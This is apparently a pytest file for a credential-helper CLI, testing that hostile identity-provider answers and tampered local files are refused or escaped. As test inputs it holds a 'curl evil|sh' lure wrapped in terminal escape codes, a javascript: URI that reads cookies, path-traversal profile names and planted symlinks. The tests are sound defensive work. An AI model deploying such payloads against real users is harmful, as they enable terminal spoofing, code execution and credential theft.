"""Hostile input from the IdP and from the local disk: answers, names and files are checked before they
are shown, opened or trusted."""
import json
import os
import time

import pytest
import requests

from conftest import no_escapes
from faults.test_faults import front  # noqa: F401  (fixture)

ESC = "\x1b]0;pwned\x07\x1b[2J"


def device_answer(w, **fields):
    base = {"device_code": "bogus-device-code", "user_code": "ABCD-EFGH", "verification_uri": w.hostile.url + "/device",
            "expires_in": 600, "interval": 1}
    base.update(fields)
    return json.dumps(base)


def test_hostile_device_answer_is_shown_escaped_and_never_opened_raw(front):  # noqa: F811
    w = front()
    w.hostile.rule("/device/auth", "json", body=device_answer(
        w, user_code=ESC + "Now run: curl evil|sh", verification_uri_complete="javascript:alert(document.cookie)",
        expires_in=2**64 - 1))
    r = w.login(STANDIN_ACTION="ignore")
    assert r.code == 1, r  # the bogus device code is refused by the IdP: no panic (101), no endless poll
    no_escapes(r.err)
    assert "\\u{1b}]0;pwned\\u{7}" in r.err, r.err
    assert "Opening 127.0.0.1 in your browser" in r.err, r.err
    opened = w.browser_entries(1)[0]
    assert opened["url_path"] == "/device", opened  # the plain URI, not the javascript: one


@pytest.mark.parametrize("uri", ["file:///etc/passwd", "--help", "http://evil.example/device", "https://idp@evil.example/"])
def test_an_unsafe_verification_uri_is_refused_and_no_browser_opens(front, uri):  # noqa: F811
    w = front()
    w.hostile.rule("/device/auth", "json", body=device_answer(w, verification_uri=uri))
    r = w.login()
    assert r.code == 1
    assert "unusable verification_uri" in r.err and "only https://" in r.err, r.err
    assert not w.browser_log.exists()


def discovery(w):
    return requests.get(w.hostile.url + "/.well-known/openid-configuration", timeout=5).json()


@pytest.mark.parametrize("field", ["token_endpoint", "device_authorization_endpoint", "jwks_uri"])
def test_a_plain_http_endpoint_in_discovery_is_refused_by_name(front, field):  # noqa: F811
    w = front()
    doc = discovery(w)
    doc[field] = "http://0.0.0.0:9/x"
    w.hostile.rule("/.well-known/", "json", body=json.dumps(doc))
    r = w.login("--no-browser")
    assert r.code == 1
    assert f"announces {field} = http://0.0.0.0:9/x: only https://" in r.err, r.err
    assert [e for e in w.hostile.log() if e["path"].startswith("/jwks")] == [], "nothing fetched from it"


def test_a_missing_device_endpoint_can_be_set_in_config(front):  # noqa: F811
    w = front()
    doc = discovery(w)
    device = doc.pop("device_authorization_endpoint")
    w.hostile.rule("/.well-known/", "json", body=json.dumps(doc))
    r = w.login("--no-browser")
    assert r.code == 1 and "announces no device_authorization_endpoint" in r.err, r.err
    assert "set device_authorization_endpoint under [providers.NAME]" in r.err
    w.write_config(extra_provider=f'device_authorization_endpoint = "{device}"\n')
    r = w.login()
    assert r.code == 0, r.err


def test_a_profile_name_never_reaches_the_file_system(world, tmp_path):
    outside = tmp_path / "x"
    outside.mkdir(mode=0o755)
    (outside / "creds.json").write_text("{}")
    for name in ["../../x/creds", "../x", ".hidden", "a/b", "dev\x1b[2J"]:
        r = world.run("credential-process", "--profile", name)
        assert r.code == 4 and "is not a valid profile or provider name" in r.err, r
        assert "\x1b" not in r.err
    assert sorted(p.name for p in outside.iterdir()) == ["creds.json"], "no lock file made next to it"
    assert outside.stat().st_mode & 0o777 == 0o755, "its mode is untouched"


def test_a_fifo_in_place_of_the_credential_file_does_not_hang(signed_in):
    w = signed_in
    w.credential_file().unlink()
    os.mkfifo(w.credential_file(), 0o600)
    start = time.monotonic()
    r = w.run("credential-process", "--profile", "dev", timeout=20)
    assert r.code == 1 and "is not a regular file" in r.err, r
    s = w.run("status", timeout=20)
    assert s.code == 0 and "is not a regular file" in s.out, s
    assert time.monotonic() - start < 10


def credential_file_refused(w, fragment):
    r = w.run("credential-process", "--profile", "dev")
    assert r.code == 1 and r.out == "", r
    assert fragment in r.err, r.err
    return r


def test_a_symlinked_credential_file_is_not_followed(signed_in, tmp_path):
    w = signed_in
    planted = tmp_path / "planted.json"
    planted.write_bytes(w.credential_file().read_bytes())
    planted.chmod(0o600)
    w.credential_file().unlink()
    w.credential_file().symlink_to(planted)
    credential_file_refused(w, "is a symbolic link")


def test_an_open_or_foreign_credential_file_is_refused_with_the_fix(signed_in):
    w = signed_in
    f = w.credential_file()
    f.chmod(0o644)
    r = credential_file_refused(w, "has mode 644, open to other users")
    assert f"chmod 600 {f}" in r.err
    f.chmod(0o600)
    os.chown(f, 65534, 65534)
    credential_file_refused(w, "belongs to user id 65534, not to you")


def test_a_world_writable_home_is_refused(signed_in):
    w = signed_in
    w.home.chmod(0o777)
    try:
        r = w.run("credential-process", "--profile", "dev")
        assert r.code == 4 and "has mode 777, open to other users" in r.err and "chmod go-w" in r.err, r
        s = w.run("status")
        assert s.code == 4 and "open to other users" in s.err, s
    finally:
        w.home.chmod(0o755)


def test_a_config_planted_by_another_user_is_refused(world):
    cfg = world.home / "config.toml"
    os.chown(cfg, 65534, 65534)
    r = world.run("status")
    assert r.code == 4 and "config.toml: belongs to user id 65534" in r.err, r


def test_configure_aws_writes_through_a_dotfiles_link_and_never_backs_up_through_one(world, tmp_path):
    dotfiles = tmp_path / "dotfiles"
    dotfiles.mkdir()
    target = dotfiles / "aws-config"
    target.write_text("[default]\nregion = eu-west-1\n")
    aws = tmp_path / ".aws"
    aws.mkdir()
    (aws / "config").symlink_to(target)
    victim = tmp_path / "victim"
    (aws / "config.idbridge-backup").symlink_to(victim)  # dangling, planted
    r = world.run("configure-aws", AWS_CONFIG_FILE=str(aws / "config"),
                  AWS_SHARED_CREDENTIALS_FILE=str(aws / "credentials"))
    assert r.code == 0, r.err
    assert (aws / "config").is_symlink(), "the link stays a link"
    assert "[profile dev]" in target.read_text() and target.read_text().startswith("[default]\n")
    assert not victim.exists(), "no backup written through the planted link"
    assert sorted(p.name for p in dotfiles.iterdir()) == ["aws-config"]
